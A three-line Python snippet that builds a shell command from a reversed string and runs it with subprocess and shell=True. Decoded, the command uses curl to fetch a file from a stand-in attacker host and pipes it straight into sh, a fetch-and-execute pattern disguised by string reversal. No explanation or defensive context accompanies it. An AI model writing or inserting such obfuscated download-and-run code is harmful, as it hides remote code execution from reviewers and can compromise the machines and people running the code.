import subprocess
cmd = "hs | x/elpmaxe.rekcatta.teg//:sptth sLf- lruc"[::-1]
subprocess.run(cmd, shell=True)
